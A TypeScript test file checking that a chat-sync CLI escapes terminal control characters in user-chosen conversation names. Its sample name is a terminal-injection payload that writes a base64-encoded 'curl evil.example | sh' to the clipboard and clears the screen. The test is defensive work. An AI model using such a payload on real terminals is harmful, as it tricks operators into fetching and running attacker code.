import { afterEach, describe, expect, it } from 'vitest';
import { startHarness, type Harness } from '../helpers/harness.js';

/**
 * A conversation renamed by hand on the chat side: its new name is chosen by any chat user. The CLI
 * prints it (`sync --refresh`'s plan, `status`'s drift): an escape sequence in it must reach the
 * operator's terminal as text, never as a command (clear the screen, set the title, write the clipboard).
 */
describe('CLI text output and control characters from the chat side', () => {
  let h: Harness;
  afterEach(async () => {
    await h?.close();
  });

  const ESC = '\u001b';
  const evil = `Ops${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007${ESC}[2J${ESC}[1;1Hall good`;

  it('prints a name with escape sequences escaped, in the run output and in status', async () => {
    h = await startHarness({ groups: 2, membersPerGroup: 2, users: 4 });
    expect((await h.cli(['sync'])).code).toBe(0);
    [...h.wire.conversations.values()].find((c) => c.name === 'Team ops')!.name = evil;
    const refreshed = await h.cli(['sync', '--refresh']);
    expect(refreshed.code, refreshed.stderr).toBe(0);
    expect(refreshed.stdout).toContain('1 renamed');
    expect(refreshed.stdout).not.toContain(ESC);
    const status = await h.cli(['status']);
    expect(status.stdout).toContain('renamed');
    expect(status.stdout).not.toContain(ESC);
    expect(status.stdout).not.toContain('\u0007');
    // shown, escaped, so the operator sees what was there
    expect(status.stdout).toContain('Ops\\u001b]52;c;');
    // JSON escapes them itself
    expect((await h.cli(['status', '--output', 'json'])).stdout).not.toContain(ESC);
  }, 60_000);
});
